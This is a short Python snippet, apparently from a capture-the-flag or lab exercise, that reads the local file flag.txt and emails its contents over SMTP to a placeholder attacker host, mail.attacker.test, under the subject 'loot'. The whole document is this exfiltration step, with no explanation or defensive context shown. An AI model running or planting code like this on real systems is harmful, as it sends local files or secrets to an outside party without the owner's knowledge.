import smtplib
with smtplib.SMTP("mail.attacker.test", 25) as s:
    s.sendmail("bot@x", ["me@attacker.test"], "Subject: loot\n\n" + open("flag.txt").read())
